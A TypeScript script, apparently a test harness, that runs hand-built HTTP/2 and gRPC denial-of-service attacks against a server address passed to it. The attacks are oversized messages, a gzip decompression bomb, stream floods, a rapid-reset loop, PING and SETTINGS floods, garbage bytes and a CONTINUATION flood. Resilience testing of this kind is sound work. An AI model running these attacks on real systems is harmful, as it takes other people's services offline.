// A stranger in a process of his own: `node attacker.ts KIND ADDRESS`. Says "attacking" when it has begun, and goes on until it is killed; tells how his
// calls and connections end, a word each. Frames of HTTP/2 are made by hand where no client would send them.
import { connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { gzipSync } from "node:zlib";

const [kind = "", address = ""] = process.argv.slice(2);
const [host = "", port] = address.split(":");
const PATH = "/macrosweep.v1.AgentService/Session";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const END_HEADERS = 4;

const attacks: Readonly<Record<string, () => void>> = {
  /** One message of 100 MB. */
  huge: () => call(Buffer.concat([head(100 * 1024 * 1024, 0), Buffer.alloc(100 * 1024 * 1024)]), {}),
  /** 100 MB that say that they are one byte more than may be, again and again. */
  many: () =>
    call(
      Buffer.concat(Array.from({ length: 1_000 }, () => Buffer.concat([head(100_000, 0), Buffer.alloc(100_000)]))),
      {},
    ),
  /** A message of 1 MB that unpacks to 1 GB. */
  bomb: () => {
    const packed = gzipSync(Buffer.alloc(1024 * 1024 * 1024));
    call(Buffer.concat([head(packed.length, 1), packed]), { "grpc-encoding": "gzip" });
  },
  /** 10,000 streams on one connection, and as many on a hundred. */
  streams: () => {
    const opened = connected();
    for (let i = 0; i < 10_000; i++) opened.write(headers(1 + 2 * i));
    for (let i = 0; i < 100; i++) {
      const other = connected();
      for (let j = 0; j < 100; j++) other.write(headers(1 + 2 * j));
    }
  },
  /** Opens streams and takes them back at once, as fast as the connection takes it, on a new one whenever it is cut. */
  resets: () =>
    repeated((socket, at) =>
      socket.write(Buffer.concat([headers(1 + 2 * at), frame(RST_STREAM, 0, 1 + 2 * at, Buffer.alloc(4))])),
    ),
  pings: () => repeated((socket) => socket.write(frame(PING, 0, 0, Buffer.alloc(8)))),
  settings: () => repeated((socket) => socket.write(frame(SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])))),
  /** What is no frame. */
  garbage: () => repeated((socket) => socket.write(Buffer.alloc(16_384, "garbage"))),
  /** Headers that never end. */
  headers: () => {
    const part = Buffer.concat([Buffer.from([0, 1, 0x61, 0x7f, 0xe1, 0x3e]), Buffer.alloc(8_000, "x")]);
    repeated((socket, at) => socket.write(at === 0 ? frame(HEADERS, 0, 1, part) : frame(9, 0, 1, part)));
  },
};

attacks[kind]?.();
console.log("attacking");
setInterval(() => {}, 1_000);

/** One call of a client that is well-behaved but for what it sends. */
function call(body: Buffer, more: object): void {
  const session = connectHttp2(`http://${address}`).on("error", () => {});
  const stream = session.request({
    ":path": PATH,
    ":method": "POST",
    "content-type": "application/grpc",
    te: "trailers",
    ...more,
  });
  stream.on("error", ({ message }) => console.log(message));
  const tell = (said: Record<string, unknown>) =>
    "grpc-status" in said && console.log(`status ${String(said["grpc-status"])}`);
  stream.on("response", tell).on("trailers", tell).resume();
  stream.write(body);
}

function connected(): Socket {
  const socket = connect(Number(port), host)
    .on("error", () => {})
    .resume();
  socket.on("close", () => console.log("closed"));
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
  return socket;
}

/** Writes as fast as it is taken. */
function repeated(write: (socket: Socket, at: number) => boolean): void {
  const socket = connected();
  let at = 0;
  const some = () => {
    for (let i = 0; i < 1_000 && !socket.destroyed; i++) if (!write(socket, at++)) break;
    if (socket.destroyed) setTimeout(() => repeated(write), 10);
    else if (socket.writableNeedDrain) socket.once("drain", some);
    else setImmediate(some);
  };
  socket.once("close", () => setTimeout(() => repeated(write), 10));
  socket.once("connect", some);
}

/** What opens a session's stream, without Huffman and without a table. */
function headers(stream: number): Buffer {
  const literal = (name: Buffer, value: string) =>
    Buffer.concat([name, Buffer.from([value.length]), Buffer.from(value)]);
  const te = Buffer.concat([Buffer.from([0, 2]), Buffer.from("te")]);
  const block = Buffer.concat([
    Buffer.from([0x83, 0x86]),
    literal(Buffer.from([0x04]), PATH),
    literal(Buffer.from([0x01]), "x"),
    literal(Buffer.from([0x0f, 0x10]), "application/grpc"),
    literal(te, "trailers"),
  ]);
  return frame(HEADERS, END_HEADERS, stream, block);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** As gRPC has it before each message. */
function head(length: number, compressed: 0 | 1): Buffer {
  const head = Buffer.alloc(5);
  head[0] = compressed;
  head.writeUInt32BE(length, 1);
  return head;
}
